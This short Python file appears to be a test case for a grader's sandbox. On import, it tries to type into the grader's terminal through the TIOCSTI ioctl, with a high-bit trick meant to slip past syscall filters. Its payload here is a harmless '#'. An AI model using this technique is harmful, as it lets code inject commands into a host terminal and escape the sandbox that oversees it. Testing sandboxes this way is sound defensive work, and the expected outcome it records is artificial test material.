"""Types a command into the terminal from which the grader was started.

outcome: raised
"""

import fcntl
import glob
import os
import termios


def attack():
    typed = []
    places = ["/dev/tty", "/dev/console", "/dev/tty0", "/dev/tty1", *glob.glob("/dev/pts/[0-9]*")]
    numbers = [0, 1, 2, 3]
    for place in places:
        try:
            numbers.append(os.open(place, os.O_RDWR | os.O_NOCTTY))
        except OSError:
            pass
    for number in numbers:
        # The high half of the number is ignored by the kernel, but not by every filter.
        for request in (termios.TIOCSTI, termios.TIOCSTI | 1 << 32, 0x541C):
            try:
                fcntl.ioctl(number, request & 0xFFFFFFFFFFFFFFFF, b"#")
                typed.append(str(number))
            except (OSError, OverflowError):
                pass
    return typed


FOUND = attack()


def concat_heads(x):
    raise ValueError("softmark-harm: " + "typed into " + ", ".join(FOUND) if FOUND else "no terminal")
